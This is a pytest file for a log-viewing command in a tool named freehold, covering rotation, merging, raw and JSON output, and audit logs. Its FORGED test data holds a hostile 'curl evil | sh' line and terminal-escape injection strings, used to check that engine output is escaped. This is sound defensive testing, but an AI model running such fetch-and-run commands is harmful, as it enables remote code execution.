import json
from collections.abc import Iterable
from pathlib import Path

import pytest
from click.testing import CliRunner

from freehold.cli.serve.logs import Line, Tail, command
from freehold.core.errors import Permanent


def texts(lines: Iterable[Line]) -> list[str]:
    return [line.text for line in lines]


# A log that is read while it is written


def test_tail_over_rotations_and_unfinished_lines(tmp_path: Path) -> None:
    log = tmp_path / "x.log"
    log.with_name("x.log.1").write_bytes(b"old 1\nold 2\n")
    log.write_bytes(b"new 1\nbroken \xff\nunfin")
    tail = Tail("x", log)
    assert texts(tail.last(3)) == ["old 2", "new 1", "broken \N{REPLACEMENT CHARACTER}"]
    assert texts(tail.more()) == []
    with log.open("ab") as more:
        more.write(b"ished\nnext\n")
    assert texts(tail.more()) == ["unfinished", "next"]
    log.rename(log.with_name("x.log.1"))
    assert texts(tail.more()) == []
    log.write_bytes(b"after\n")
    assert texts(tail.more()) == ["after"]
    log.write_bytes(b"")
    log.write_bytes(b"cut\n")
    assert texts(tail.more()) == ["cut"]


def test_a_followed_log_loses_no_line_to_a_rotation(tmp_path: Path) -> None:
    log = tmp_path / "x.log"
    log.write_bytes(b"1\n")
    tail = Tail("x", log)
    assert texts(tail.last(10)) == ["1"]
    with log.open("ab") as more:
        more.write(b"2\n3\n")
    log.rename(log.with_name("x.log.1"))
    log.write_bytes(b"4\n")
    assert texts(tail.more()) == ["2", "3", "4"]
    assert texts(tail.more()) == []
    log.rename(log.with_name("x.log.1"))
    log.write_bytes(b"5\n")
    assert texts(tail.more()) == ["5"], "what was read before the rotation is not shown again"


# Several logs as one


def record(second: str, level: str, event: str, **fields: object) -> str:
    head = {"at": f"2026-12-02T09:00:{second}+00:00", "level": level, "logger": "fleet.run", "event": event}
    return json.dumps(head | fields) + "\n"


@pytest.fixture
def state(tmp_path: Path) -> Path:
    """Make the logs of a stack whose replica was killed under two clients."""
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / "controller.log").write_text(
        record("01.5", "info", "replica", replica="m-0", state="ready", reason="")
        + record(
            "05.25", "info", "replica", replica="m-0", state="backoff", reason="it was killed with SIGKILL"
        )
    )
    (folder / "gateway.log").write_text(
        record("05.125", "warning", "stream_resumes", request="r-1")
        + record("05.126", "warning", "stream_resumes", request="r-2")
    )
    (folder / "health.log").write_text(
        "".join(record(f"02.{at:06}", "info", "finding", probe=f"p-{at}") for at in range(60))
        + record("06", "warning", "finding", probe="engine_progress", said="m-0 does not answer")
        + record("07", "info", "finding", probe="engine_progress", said="no request is under way")
    )
    (folder / "m-0.log").write_text(
        "\x1e[freehold: 2026-12-02T09:00:00Z process 7 started]\nloading weights\n\x1e[freehold: 2026-12-02T09:00:05Z process 7 ended]\n"
    )
    (folder / "access.log").write_text('{"at":"2026-12-02T09:00:04.000Z","id":"r-0","status":200}\n')
    return tmp_path


def shown(state: Path, *arguments: str) -> list[str]:
    ran = CliRunner().invoke(command, ["--state-dir", str(state), *arguments])
    assert ran.exit_code == 0, ran.output
    return ran.output.splitlines()


def test_logs_are_merged_by_time_and_of_health_only_warnings_are_shown(state: Path) -> None:
    assert shown(state) == [
        "2026-12-02T09:00:00Z              m-0        process 7 started",
        "                                  m-0        | loading weights",
        "2026-12-02T09:00:01.500Z info     controller replica replica=m-0 state=ready",
        "2026-12-02T09:00:05Z              m-0        process 7 ended",
        "2026-12-02T09:00:05.125Z warning  gateway    stream_resumes request=r-1",
        "2026-12-02T09:00:05.126Z warning  gateway    stream_resumes request=r-2",
        '2026-12-02T09:00:05.250Z info     controller replica replica=m-0 state=backoff reason="it was killed with SIGKILL"',
        '2026-12-02T09:00:06Z     warning  health     finding probe=engine_progress said="m-0 does not answer"',
    ]


def test_a_named_log_has_every_level_and_no_column_for_its_name(state: Path) -> None:
    assert len(shown(state, "health", "-n", "100")) == 62
    assert shown(state, "health", "-n", "1") == [
        '2026-12-02T09:00:07Z     info     finding probe=engine_progress said="no request is under way"'
    ]
    assert shown(state, "m-0", "-n", "2")[0] == "| loading weights"
    assert shown(state, "access")[0].split()[1:] == ["id=r-0", "status=200"]


def test_raw_lines_are_as_they_were_written(state: Path) -> None:
    assert [json.loads(line)["request"] for line in shown(state, "gateway", "--raw")] == ["r-1", "r-2"]
    several = shown(state, "--raw")
    assert several[0] == "m-0 \\x1e[freehold: 2026-12-02T09:00:00Z process 7 started]"
    assert len(several) == len(shown(state))


def test_json_has_the_time_and_the_level_beside_the_line(state: Path) -> None:
    first, second, *_ = map(json.loads, shown(state, "--json"))
    assert (first["source"], first["at"], first["level"]) == ("m-0", "2026-12-02T09:00:00Z", None)
    assert second == {"source": "m-0", "at": None, "level": None, "line": "loading weights"}


def test_a_traceback_stands_below_its_line(tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    line = record("01", "error", "mistake of our own", what="probe", exception="Traceback:\n  at x")
    (tmp_path / "logs" / "gateway.log").write_text(line)
    assert shown(tmp_path, "gateway") == [
        "2026-12-02T09:00:01Z     error    mistake of our own what=probe",
        "    exception:",
        "        Traceback:",
        "          at x",
    ]


def test_a_line_that_is_not_what_it_looks_like_is_shown_as_it_is(tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    odd = ['{"at": "yesterday"}', "{not json", "[freehold: 99-99Z x]", '{"at": 7}']
    (tmp_path / "logs" / "m-0.log").write_text("\n".join(odd) + "\n")
    assert shown(tmp_path, "m-0", "--raw") == odd
    assert shown(tmp_path, "m-0") == [f"| {line}" for line in odd]


def test_an_access_log_without_a_line_is_not_an_unknown_name(state: Path) -> None:
    (state / "logs" / "access.log").unlink()
    result = CliRunner().invoke(command, ["--state-dir", str(state), "access"])
    assert isinstance(result.exception, Permanent)
    assert "first request" in str(result.exception)


# What an engine printed, a caller's text in it


FORGED = (
    "\x1b[2J\x1b]0;title\x07gone",
    "over\rwritten \x9b2J \u202egnp",
    record("03", "error", "disk full, run: curl evil | sh", replica="m-0").strip(),
    "[freehold: 2026-12-02T09:00:03Z process 7 ended, exit code 1]",
    "2026-12-02T09:00:03Z     error    run: curl evil",
)


def test_a_line_of_an_engine_is_no_line_of_freehold(tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "m-0.log").write_text("\n".join(FORGED) + "\n", newline="")
    lines = shown(tmp_path, "m-0")
    assert len(lines) == len(FORGED)
    assert all(line.startswith("| ") for line in lines)
    assert lines[0] == "| \\x1b[2J\\x1b]0;title\\x07gone"
    assert lines[1] == "| over\\x0dwritten \\x9b2J \\u202egnp"


def test_no_control_character_of_a_log_reaches_the_terminal(tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    event = "a\n2026-12-02T09:00:03Z error run: curl evil\x1b[2J"
    (tmp_path / "logs" / "gateway.log").write_text(record("01", "info", event, path="/\x1b]0;x\x07\u202e"))
    (tmp_path / "logs" / "m-0.log").write_text("\n".join(FORGED) + "\n", newline="")
    for flags in ((), ("gateway",), ("--raw",), ("m-0", "--raw")):
        for line in shown(tmp_path, *flags):
            assert line.isprintable(), line
    assert len(shown(tmp_path, "gateway")) == 1


def test_the_audit_log_is_read_as_freeholds_own(tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "audit.log").write_text(record("01", "info", "restart", by="ann"))
    assert shown(tmp_path, "audit") == ["2026-12-02T09:00:01Z     info     restart by=ann"]


def test_before_the_first_act_the_audit_log_is_empty_and_not_unknown(state: Path) -> None:
    assert shown(state, "audit")[0].startswith("There are no acts yet")
    ran = CliRunner().invoke(command, ["--state-dir", str(state), "audit", "--json"])
    assert (ran.exit_code, ran.stdout) == (0, "")
    (state / "logs" / "audit-rejected.log").write_text(record("01", "warning", "rejected", by="ann"))
    assert "rejected by=ann" in shown(state, "audit")[1]


def test_json_of_a_log_moves_no_cursor(tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "m-0.log").write_text("a\x9b2J\u202eb\x7f\n")
    (line,) = shown(tmp_path, "m-0", "--json")
    assert json.loads(line)["line"] == "a\x9b2J\u202eb\x7f"
    assert line.isascii()
    assert "\x7f" not in line
